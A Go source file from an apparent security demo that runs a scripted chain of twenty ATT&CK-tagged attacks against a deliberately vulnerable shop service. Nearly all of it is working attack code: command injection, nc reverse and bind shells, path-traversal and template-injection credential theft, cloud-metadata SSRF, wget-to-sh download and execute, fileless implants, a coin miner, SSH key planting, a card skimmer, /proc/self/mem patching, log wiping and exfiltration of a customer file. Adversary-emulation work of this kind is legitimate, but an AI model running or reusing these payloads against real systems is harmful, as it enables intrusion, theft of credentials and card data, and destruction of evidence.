package demo

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/url"
	"os"
	"strconv"
	"strings"
	"time"

	"bulkhead/demo/userland"
)

// attacks is the programme, from the first foot in the door to the way out with the data.
func attacks() []attack {
	return []attack{
		{"Injected command", "T1190", "the name of an order's export goes into a shell; `id` rides along", injectedCommand},
		{"Reverse shell", "T1059.004", "the injected nc calls home and hands over /bin/sh", reverseShell},
		{"Database password", "T1552.001", "a picture's name climbs to " + passwordPath, stealPassword},
		{"Service account token", "T1528", "a greeting card includes the token that speaks to the cluster", stealToken},
		{"Cloud credentials", "T1552.005", "the shop asks " + metadataAddress + " instead of its supplier", stealCloudKey},
		{"Scan of the neighbours", "T1046", "the shop is sent from port to port of the database next door", scanNeighbours},
		{"Uploaded program", "T1105", "an avatar is a program, and the plugin runner starts it", runUpload},
		{"Program in /dev/shm", "T1027.011", "a program that never touches a disk", runFromSharedMemory},
		{"Program without a file", "T1620", "memfd_create, and then executed from there", runFromMemory},
		{"Renamed busybox", "T1036.003", "an archive brings a copy of busybox and a link with an innocent name", runRenamed},
		{"Dropped script", "T1505.003", "an uploaded script, run by the shop's own sh", runDroppedScript},
		{"Download and execute", "T1059.004", "wget from the attacker, straight into sh", downloadAndExecute},
		{"Coin miner", "T1496", "signs in at the pool and burns a core", mineCoins},
		{"SSH key", "T1098.004", "a key of the attacker's in authorized_keys", plantKey},
		{"Skimmer in the cart", "T1565.001", "a script in the cart's template reads along with every card number", plantSkimmer},
		{"Bind shell", "T1571", "a port that gives a shell to whoever calls", bindShell},
		{"Code patched in memory", "T1055.009", "the shop rewrites itself through /proc/self/mem", patchMemory},
		{"Namespace escape", "T1611", "root in a namespace of one's own, and a mount", escapeNamespace},
		{"Log wiped", "T1070.002", "the access log is gone", wipeLog},
		{"Customers exfiltrated", "T1048", "customers.csv leaves through nc", exfiltrate},
	}
}

func injectedCommand(ctx context.Context, r *raid) (string, error) {
	answer, err := r.inject(ctx, "id")
	return found(answer, "uid=1000", err)
}

func reverseShell(ctx context.Context, r *raid) (string, error) {
	home, err := r.listen(converse)
	if err != nil {
		return "", err
	}
	defer home.Close()
	_, err = r.inject(ctx, "nc "+r.target.stage.gateway+" "+home.port()+" -e /bin/sh")
	return home.wait(ctx), err
}

func stealPassword(ctx context.Context, r *raid) (string, error) {
	answer, err := r.get(ctx, "/image", url.Values{"file": {"../../.." + passwordPath}})
	return found(answer, r.target.loot.password, err)
}

func stealToken(ctx context.Context, r *raid) (string, error) {
	answer, err := r.post(ctx, "/card", url.Values{"to": {"me"}, "text": {`{{include "../..` + "/var" + tokenPath + `"}}`}})
	return found(answer, r.target.loot.token, err)
}

func stealCloudKey(ctx context.Context, r *raid) (string, error) {
	answer, err := r.get(ctx, "/stock", url.Values{"product": {"1"}, "supplier": {"http://" + metadataAddress + metadataPath}})
	return found(answer, r.target.loot.key, err)
}

func scanNeighbours(ctx context.Context, r *raid) (string, error) {
	var last error
	for _, port := range []int{22, 80, 3306, 5432, neighbourPort, 6379, 9200} {
		ctx, cancel := context.WithTimeout(ctx, time.Second)
		answer, err := r.get(ctx, "/stock", url.Values{"product": {"1"}, "supplier": {fmt.Sprintf("http://%s:%d/", r.target.stage.database, port)}})
		cancel()
		if proof, _ := found(answer, r.target.loot.database, nil); proof != "" {
			return fmt.Sprintf("port %d is open: %s", port, proof), nil
		}
		last = err
	}
	return "", last
}

func runUpload(ctx context.Context, r *raid) (string, error) {
	if err := r.dropImplant(ctx, r.token+".png"); err != nil {
		return "", err
	}
	answer, err := r.runUploaded(ctx, "../uploads/"+r.token+".png", "implant", "say", r.token)
	return found(answer, r.ran(), err)
}

func runFromSharedMemory(ctx context.Context, r *raid) (string, error) {
	data, err := r.implant()
	if err != nil {
		return "", err
	}
	path := "/dev/shm/." + r.token
	if _, err := r.send(ctx, "POST", "/debug/write?path="+path, "", bytes.NewReader(data)); err != nil {
		return "", err
	}
	answer, err := r.runUploaded(ctx, "../.."+path, "implant", "say", r.token)
	return found(answer, r.ran(), err)
}

func runFromMemory(ctx context.Context, r *raid) (string, error) {
	data, err := r.implant()
	if err != nil {
		return "", err
	}
	query := url.Values{"arg": {"implant", "say", r.token}}.Encode()
	answer, err := r.send(ctx, "POST", "/debug/program?"+query, "", bytes.NewReader(data))
	return found(answer, r.ran(), err)
}

// runRenamed brings its tools in an archive, because tar is one of the few programs that
// the shop itself uses.
func runRenamed(ctx context.Context, r *raid) (string, error) {
	busybox, err := userland.Find("busybox", "busybox-static")
	if err != nil {
		return "", err
	}
	var archive bytes.Buffer
	l := userland.NewLayer(&archive)
	l.Dir(r.token, 0o755, customer)
	l.File(r.token+"/busybox.bak", 0o755, customer, busybox.Data)
	l.Link(r.token+"/whoami", "/bin/busybox")
	if err := l.Close(); err != nil {
		return "", err
	}
	if _, err := r.upload(ctx, r.token+".png", archive.Bytes()); err != nil {
		return "", err
	}
	answer, err := r.inject(ctx, fmt.Sprintf("cd /tmp; tar -xf /srv/uploads/%[1]s.png; /tmp/%[1]s/busybox.bak id; /tmp/%[1]s/whoami | { read me && echo link:$me; }", r.token))
	if proof, err := found(answer, "uid=1000", err); proof != "" {
		return proof, err
	}
	return found(answer, "link:shop", err)
}

func runDroppedScript(ctx context.Context, r *raid) (string, error) {
	question, answer := riddle()
	script := "read -r first < /etc/passwd\necho \"$first " + question + "\"\n"
	if _, err := r.upload(ctx, r.token+".png", []byte(script)); err != nil {
		return "", err
	}
	said, err := r.inject(ctx, "sh /srv/uploads/"+r.token+".png")
	return found(said, answer, err)
}

func downloadAndExecute(ctx context.Context, r *raid) (string, error) {
	question, answer := riddle()
	stage := "echo stage two: " + question + "\n"
	home, err := r.listen(func(conn net.Conn) string {
		_, _ = conn.Read(make([]byte, 2048)) // the request: there is only one thing to get
		fmt.Fprintf(conn, "HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(stage), stage)
		return ""
	})
	if err != nil {
		return "", err
	}
	defer home.Close()
	said, err := r.inject(ctx, "wget -q -O - http://"+r.target.stage.gateway+":"+home.port()+"/stage | sh")
	return found(said, answer, err)
}

func mineCoins(ctx context.Context, r *raid) (string, error) {
	pool, err := r.listen(func(conn net.Conn) string {
		login := make([]byte, 512)
		n, _ := conn.Read(login)
		line, _ := found(string(login[:n]), r.ran(), nil)
		return line
	})
	if err != nil {
		return "", err
	}
	defer pool.Close()
	if err := r.dropImplant(ctx, "xmrig-"+r.token); err != nil {
		return "", err
	}
	_, err = r.runUploaded(ctx, "../uploads/xmrig-"+r.token, "implant", "mine", r.token, pool.Addr().String())
	return pool.wait(ctx), err
}

func plantKey(ctx context.Context, r *raid) (string, error) {
	_, err := r.inject(ctx, "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 "+r.token+"' >> /home/shop/.ssh/authorized_keys")
	keys, readErr := r.target.inside("/home/shop/.ssh/authorized_keys")
	if err == nil {
		err = readErr
	}
	return found(keys, r.token, err)
}

func plantSkimmer(ctx context.Context, r *raid) (string, error) {
	skimmer := `<script src="//` + r.token + `.example/card.js"></script>`
	_, err := r.inject(ctx, "sed -i 's|</form>|"+skimmer+"</form>|' /srv/templates/cart.html")
	page, getErr := r.get(ctx, "/cart", nil)
	if err == nil {
		err = getErr
	}
	return found(page, skimmer, err)
}

func bindShell(ctx context.Context, r *raid) (string, error) {
	port := strconv.Itoa(20_000 + rand.IntN(10_000))
	if _, err := r.inject(ctx, "nc -l -p "+port+" -e /bin/sh </dev/null >/dev/null 2>&1 &"); ctx.Err() != nil {
		return "", err
	}
	var last error
	for end := time.Now().Add(700 * time.Millisecond); time.Now().Before(end); sleep(ctx, 40*time.Millisecond) {
		conn, err := net.DialTimeout("tcp", net.JoinHostPort(r.target.ip, port), 300*time.Millisecond)
		if err != nil {
			last = err
			continue
		}
		defer conn.Close()
		return converse(conn), errRefused
	}
	return "", last
}

// patchMemory changes the words that stand on the debug pages, in the running program. The
// page itself says where they lie.
func patchMemory(ctx context.Context, r *raid) (string, error) {
	vars, err := r.get(ctx, "/debug/vars", nil)
	if err != nil {
		return "", err
	}
	var leak struct{ MottoAt string }
	if err := json.Unmarshal([]byte(vars), &leak); err != nil {
		return "", err
	}
	path := "/debug/write?path=/proc/self/mem&offset=" + leak.MottoAt
	answer, err := r.send(ctx, "POST", path, "", strings.NewReader("patched "+r.token))
	return found(answer, "patched "+r.token, err)
}

func escapeNamespace(ctx context.Context, r *raid) (string, error) {
	if err := r.dropImplant(ctx, r.token+".png"); err != nil {
		return "", err
	}
	answer, err := r.runUploaded(ctx, "../uploads/"+r.token+".png", "implant", "escape", r.token)
	return found(answer, r.ran(), err)
}

func wipeLog(ctx context.Context, r *raid) (string, error) {
	const path = "/var/log/shop/access.log"
	if _, err := r.get(ctx, "/search", url.Values{"q": {r.token}}); err != nil {
		return "", err
	}
	if !r.logged(ctx, path) {
		return "", errors.New("the log had no trace to wipe")
	}
	_, err := r.inject(ctx, "rm -f "+path)
	text, readErr := r.target.inside(path)
	if strings.Contains(text, r.token) || readErr != nil && !errors.Is(readErr, os.ErrNotExist) {
		return "", errors.Join(err, readErr)
	}
	return "the trace of " + r.token + " is gone from " + path, nil
}

// logged waits until the access log has this raid's trace.
func (r *raid) logged(ctx context.Context, path string) bool {
	for range 20 {
		if text, _ := r.target.inside(path); strings.Contains(text, r.token) {
			return true
		}
		sleep(ctx, 30*time.Millisecond)
	}
	return false
}

func exfiltrate(ctx context.Context, r *raid) (string, error) {
	home, err := r.listen(func(conn net.Conn) string {
		data, _ := io.ReadAll(io.LimitReader(conn, 8<<20))
		line, _ := found(string(data), r.token, nil)
		return line
	})
	if err != nil {
		return "", err
	}
	defer home.Close()
	_, err = r.inject(ctx, "nc "+r.target.stage.gateway+" "+home.port()+" < /srv/data/customers.csv")
	return home.wait(ctx), err
}
